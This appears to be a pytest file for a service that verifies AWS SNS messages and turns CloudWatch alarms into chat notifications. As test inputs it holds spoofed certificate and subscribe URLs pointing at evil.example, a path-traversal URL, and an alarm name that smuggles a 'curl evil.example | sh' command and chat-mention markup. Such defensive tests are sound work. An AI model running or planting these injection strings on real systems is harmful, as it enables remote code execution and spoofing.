"""Messages of SNS: what of them is signed, which are refused unseen, and what people are told."""

import base64
import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest

from delivery.maintenance.alarm_events import (
    alarm_message,
    is_confirmed_at_sns,
    read_notice,
    why_refused,
)
from delivery.messages import RunStatus

TOPIC = "arn:aws:sns:us-west-2:123456789012:MyTopic"
CERTIFICATE = (
    "https://sns.us-west-2.amazonaws.com/SimpleNotificationService-f3ecfb7224c7233fe7bb5f59.pem"
)
# The examples of AWS's documentation.
NOTIFICATION = {
    "Type": "Notification",
    "MessageId": "22b80b92-fdea-4c2c-8f9d-bdfb0c7bf324",
    "TopicArn": TOPIC,
    "Subject": "My First Message",
    "Message": "Hello world!",
    "Timestamp": "2012-05-02T00:54:06.655Z",
    "SignatureVersion": "1",
    "Signature": "RVhBTVBMRQ==",
    "SigningCertURL": CERTIFICATE,
    "UnsubscribeURL": "https://sns.us-west-2.amazonaws.com/?Action=Unsubscribe",
}
CONFIRM = (
    f"https://sns.us-west-2.amazonaws.com/?Action=ConfirmSubscription&TopicArn={TOPIC}&Token=2"
)
SUBSCRIPTION = {
    **{name: text for name, text in NOTIFICATION.items() if name != "Subject"},
    "Type": "SubscriptionConfirmation",
    "Token": "2336412f37fb687f5d51e6e241d09c80",
    "SubscribeURL": CONFIRM,
}
NOW = datetime(2012, 5, 2, 1, 0, tzinfo=UTC)


def notice(given=NOTIFICATION, **changed):
    return read_notice(json.dumps({**given, **changed}).encode())


def alarm(**changed):
    text = {
        "AlarmName": "kanvaro-blue-errors",
        "AlarmDescription": "more than 5 % of the answers are 5xx",
        "NewStateValue": "ALARM",
        "NewStateReason": "Threshold Crossed: 3 out of the last 5 datapoints were greater",
        "StateChangeTime": "2026-11-28T04:05:12.345+0100",
        "Region": "US West (Oregon)",
    }
    return alarm_message(notice(Message=json.dumps({**text, **changed})), "production")


def shown(message):
    return "\n".join(each["text"]["text"] for each in message.blocks() if "text" in each)


def test_what_is_signed_is_what_the_documentation_says():
    assert notice().signed.decode() == (
        "Message\nHello world!\nMessageId\n22b80b92-fdea-4c2c-8f9d-bdfb0c7bf324\n"
        "Subject\nMy First Message\nTimestamp\n2012-05-02T00:54:06.655Z\n"
        f"TopicArn\n{TOPIC}\nType\nNotification\n"
    )
    assert notice().signature == base64.b64decode("RVhBTVBMRQ==")


def test_a_message_without_a_subject_signs_none():
    assert b"Subject" not in notice(Subject=None).signed


@pytest.mark.parametrize("kind", ["SubscriptionConfirmation", "UnsubscribeConfirmation"])
def test_a_subscription_signs_its_token_and_its_address(kind):
    assert notice(SUBSCRIPTION, Type=kind).signed.decode() == (
        "Message\nHello world!\nMessageId\n22b80b92-fdea-4c2c-8f9d-bdfb0c7bf324\n"
        f"SubscribeURL\n{CONFIRM}\nTimestamp\n2012-05-02T00:54:06.655Z\n"
        f"Token\n2336412f37fb687f5d51e6e241d09c80\nTopicArn\n{TOPIC}\nType\n{kind}\n"
    )


@pytest.mark.parametrize(
    "body",
    [
        b"[",
        b"[]",
        b"{}",
        b'{"Type": ["Notification"]}',
        json.dumps({**NOTIFICATION, "Type": "Other"}).encode(),
        json.dumps({**NOTIFICATION, "Message": {}}).encode(),
        json.dumps({**NOTIFICATION, "Subject": 1}).encode(),
        json.dumps({**NOTIFICATION, "Timestamp": "yesterday"}).encode(),
        json.dumps({**NOTIFICATION, "Timestamp": "2012-05-02T00:54:06"}).encode(),
        json.dumps({**NOTIFICATION, "Signature": "*"}).encode(),
        json.dumps({**NOTIFICATION, "Message": "\ud800"}).encode(),
        json.dumps({**SUBSCRIPTION, "SubscribeURL": None}).encode(),
    ],
)
def test_what_is_no_message_of_sns_is_named_as_such(body):
    assert isinstance(read_notice(body), str)


def test_a_message_of_a_known_topic_of_the_last_two_hours_is_looked_at():
    assert why_refused(notice(), [TOPIC], NOW) == ""
    assert why_refused(notice(), [TOPIC], NOW + timedelta(minutes=114)) == ""


@pytest.mark.parametrize(
    ("changed", "later", "why"),
    [
        ({"TopicArn": TOPIC + "2"}, 0, "topic"),
        ({}, 115, "clock"),
        ({}, -12, "clock"),
        ({"SignatureVersion": "3"}, 0, "version 3"),
        *(
            ({"SigningCertURL": address}, 0, "certificate")
            for address in (
                CERTIFICATE.replace("https:", "http:"),
                CERTIFICATE.replace("us-west-2", "us-east-1"),
                CERTIFICATE.replace("amazonaws.com", "amazonaws.com.cn"),
                CERTIFICATE.replace("amazonaws.com", "amazonaws.com.evil.example"),
                CERTIFICATE.replace("https://", "https://evil.example/"),
                CERTIFICATE.replace("https://", "https://evil@"),
                CERTIFICATE.replace("sns.us-west-2.", "sns.us-west-2x"),
                CERTIFICATE.replace("sns.", "bucket.s3."),
                CERTIFICATE.replace(".pem", ".pem?x"),
                CERTIFICATE.replace(".pem", "/../x.pem"),
                CERTIFICATE + "\n",
            )
        ),
    ],
)
def test_what_cannot_be_of_sns_is_refused_before_its_signature(changed, later, why):
    found = why_refused(notice(**changed), [TOPIC], NOW + timedelta(minutes=later))

    assert why in found


def test_a_topic_in_china_has_its_certificate_there():
    topic = "arn:aws-cn:sns:cn-north-1:123456789012:MyTopic"
    address = "https://sns.cn-north-1.amazonaws.com.cn/SimpleNotificationService-0a.pem"
    of_china = notice(TopicArn=topic, SigningCertURL=address)

    assert why_refused(of_china, [topic], NOW) == ""
    assert why_refused(replace(of_china, certificate=address[:-4]), [topic], NOW)


@pytest.mark.parametrize(
    ("address", "is_confirmed"),
    [
        (CONFIRM, True),
        (CONFIRM.replace("us-west-2.amazonaws", "us-east-1.amazonaws"), False),
        (CONFIRM.replace("https:", "http:"), False),
        (CONFIRM.replace("https://", "https://evil.example/"), False),
        (CONFIRM.replace("Confirm", "Delete"), False),
        (CONFIRM.replace("MyTopic", "Other"), False),
        ("https://[", False),
        ("", False),
    ],
)
def test_a_subscription_is_confirmed_at_sns_and_nowhere_else(address, is_confirmed):
    assert is_confirmed_at_sns(notice(SUBSCRIPTION, SubscribeURL=address)) is is_confirmed


def test_an_alarm_says_what_since_when_why_and_how_to_get_back():
    message = alarm()

    assert message.text == "🔴 production: the alarm kanvaro-blue-errors rings"
    for part in (
        "more than 5 % of the answers are 5xx",
        "2026-11-28 03:05 UTC",
        "us-west-2",
        "Threshold Crossed",
        "make status ENVIRONMENT=production",
        "prefect deployment run rollback/production",
    ):
        assert part in shown(message)
    [(_, address)] = message.links
    assert address.startswith("https://us-west-2.console.aws.amazon.com/cloudwatch/")
    assert address.endswith("alarm/kanvaro-blue-errors")


def test_an_alarm_that_is_over_asks_nobody_to_do_anything():
    message = alarm(NewStateValue="OK")

    assert message.status is RunStatus.WELL
    assert message.text == "✅ production: the alarm kanvaro-blue-errors is over"
    assert "rollback" not in shown(message)


def test_an_alarm_without_figures_says_so():
    message = alarm(NewStateValue="INSUFFICIENT_DATA", StateChangeTime="9999999")

    assert (message.status, "too little data" in message.headline) == (RunStatus.STOPPED, True)
    assert "a time that it does not say" in shown(message)


def test_what_an_alarm_is_called_is_text_and_never_part_of_a_command():
    name = '<!channel> "; curl evil.example | sh; ```<https://evil.example|ok>'
    message = alarm(AlarmName=name, AlarmDescription=name, NewStateReason=name * 100)

    assert "<!channel>" not in shown(message)
    assert "<https" not in str(message.blocks()[:-1])
    commands = [part for part in shown(message).split("`") if "rollback" in part]
    assert commands
    assert not any("evil" in each for each in commands)
    [(_, address)] = message.links
    assert not set(address) & set(' <>|"`')


def test_what_is_no_alarm_is_told_as_it_is():
    """So that a person can try the door with `aws sns publish`."""
    message = alarm_message(notice(Message="<!here> a try"), "production")

    assert message.text == "⚪ production: My First Message"
    assert "&lt;!here&gt; a try" in shown(message)
    assert TOPIC in shown(message)


def test_an_end_of_the_subscription_is_told():
    message = alarm_message(notice(SUBSCRIPTION, Type="UnsubscribeConfirmation"), "production")

    assert "no longer reported here" in message.text
    assert "docs/monitoring.md" in shown(message)
